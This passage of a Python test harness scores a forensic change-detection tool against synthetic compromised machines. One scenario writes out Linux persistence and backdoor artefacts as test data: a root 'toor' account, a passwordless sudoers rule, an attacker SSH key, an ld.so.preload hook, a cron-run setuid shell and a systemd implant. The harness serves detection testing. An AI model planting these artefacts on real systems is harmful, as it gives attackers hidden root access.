    subprocess.run(["cp", "-a", str(top / "after"), str(machine.after)], check=True)


def packages_with_intruder(machine):
    packages_installed(machine)
    after, plant = machine.after, machine.plant

    def patched(path, kept=True):
        body = bytearray((after / path).read_bytes())
        body[len(body) // 2:len(body) // 2 + 8] = b"implant!"
        status = (after / path).stat()
        plant(path, bytes(body), status.st_mode & 0o7777, status.st_mtime if kept else NEW)

    patched("usr/bin/ls" if (after / "bin").is_symlink() else "bin/ls")
    patched("usr/sbin/sshd", False)
    patched("usr/lib/x86_64-linux-gnu/security/pam_unix.so")
    plant("etc/passwd", (after / "etc/passwd").read_text() + "toor:x:0:0::/root:/bin/bash\n")
    plant("etc/sudoers.d/backup", "www-data ALL=(ALL) NOPASSWD: ALL\n", 0o440)
    plant("root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nza mallory\n", 0o600)
    plant("etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libsys.so.6\n")
    plant("usr/lib/x86_64-linux-gnu/libsys.so.6", elf("preloaded"))
    plant("etc/cron.d/sync", "* * * * * root /var/tmp/.x\n")
    plant("var/tmp/.x", elf("root shell"), 0o4755)
    plant("etc/systemd/system/sysd.service", "[Service]\nExecStart=/usr/local/bin/sysd\n[Install]\nWantedBy=multi-user.target\n")
    plant("usr/local/bin/sysd", elf("implant"), 0o755)
    plant("etc/profile.d/z.sh", "(/usr/local/bin/sysd &)\n")


SCENARIOS = {
    "clean machine": (clean_linux, False), "Linux persistence": (linux_persistence, False),
    "Windows persistence": (windows_persistence, True), "ransomware, renamed": (ransomware_renamed, True),
    "ransomware in place, times kept": (ransomware_times_kept, True), "ransomware in place, times new": (ransomware_times_new, True),
    "rootkit: size and time kept": (rootkit, False), "web shell in a site": (web_shell, False)}
SCENARIOS |= {
    "site updated, shells besides": (site_updated, False), "benign Linux week": (linux_benign_week, False),
    "drivers and store updated": (windows_drivers_and_store, True), "ransomware in parts, times kept": (ransomware_in_parts, False),
    "rootkit on Windows: size and time kept": (windows_rootkit, True)}
SCENARIOS |= {"benign Windows week": (windows_benign_week, True), "macOS persistence": (macos_persistence, False)}
if "HIVES" in os.environ:
    SCENARIOS["real hives only"] = (hives_only, False)
if shutil.which("osslsigncode"):
    SCENARIOS["signed programs updated, four impostors"] = (impostors, True)
if shutil.which("ntfs-3g") and os.geteuid() == 0:
    SCENARIOS["programs in alternate streams"] = (streams, True)
if "DEBIAN" in os.environ:
    SCENARIOS |= {"packages installed": (packages_installed, False), "packages installed, an intruder besides": (packages_with_intruder, False)}


# --- how they are judged ------------------------------------------------------------------------------------------------------------

def export(keys):
    lines = ["REGEDIT4", ""]
    for key, values in keys:
        lines.append(f"[{key}]")
        for name, data in values:
            quoted = '"%s"' % name.replace("\\", "\\\\")
            lines.append(f"{quoted}=dword:{data:08x}" if isinstance(data, int) else f'{quoted}="%s"' % data.replace("\\", "\\\\"))
        lines.append("")
    return "\r\n".join(lines)


def assay(case, *arguments):
    done = subprocess.run([*ASSAY, *arguments, "-c", str(case)], capture_output=True, text=True)
    if done.returncode not in (0, 1, 2):
        sys.exit(done.stderr)
    return done.stdout


def judge(name, build, drive, top):
    machine = Machine(top, drive)
    build(machine)
    case = top / "case"
    subprocess.run([*ASSAY, "case", "new", str(case)], check=True, capture_output=True)
    for side, role in (("before", "baseline"), ("after", "suspect")):
        more = []
        tree = ["--tree", ("C=" if drive else "") + str(getattr(machine, side))]
        if machine.hives:
            tree = ["--hive", "HKU\\ann=" + str(machine.hives[side])]
        elif drive and machine.registry["after"]:
            (top / f"{side}.reg").write_text(export(machine.registry[side]))
            more = ["--reg", str(top / f"{side}.reg")]
        assay(case, "capture", "--host", "PC", "--role", role, *tree, *more)
    for folder in machine.unmount:
        subprocess.run(["umount", str(folder)], check=True)
    changes = json.loads(assay(case, "compare", "1", "2", "-f", "json"))["changes"]
    startup = json.loads(assay(case, "startup", "-f", "json"))["startup"]
    rows = [(row["severity"], "MASS" if "mass-change" in row["findings"] else row["location"].removesuffix(" "), row) for row in changes]
    planted = set(machine.planted)
    ranks = {}
    for at, (_, location, _) in enumerate(rows):
        ranks.setdefault(location, at + 1)
    found = sorted(ranks[one] for one in planted if one in ranks)
    noise = [row for row in rows if row[0] in ("HIGH", "MEDIUM") and row[1] not in planted]
    first = ["%d/%d" % (len([rank for rank in found if rank <= limit]), min(limit, len(planted))) for limit in (20, 50, 150)]
    high = len([row for row in noise if row[0] == "HIGH"])
    print(f"| {name} | {len(changes):,} | {len(found)}/{len(planted)} | {' | '.join(first)} | {len(startup)} | {len(noise)} ({high}) |", flush=True)
    for location in sorted(planted - set(ranks)):
        print(f"    not found: {location}")
    for location in sorted(planted & set(ranks)):
        if ranks[location] > 20:
            print(f"    rank {ranks[location]}: {location}")
    for severity, location, row in noise[:int(os.environ.get("NOISE", "0"))]:
        print(f"    noise: {severity} {location} {row['findings']}")


def main():
    import updates
    SCENARIOS.update(updates.SCENARIOS)
    chosen = [name for name in SCENARIOS if not sys.argv[1:] or any(word in name for word in sys.argv[1:])]
    print("| scenario | changes | found | first 20 | first 50 | 150 | startup | noise above LOW (HIGH) |")
    print("|---|---|---|---|---|---|---|---|")
    for name in chosen:
        top = Path(tempfile.mkdtemp(prefix="assay-scenario-"))
        try:
            judge(name, *SCENARIOS[name], top)
        finally:
            shutil.rmtree(top)


if __name__ == "__main__":
    main()
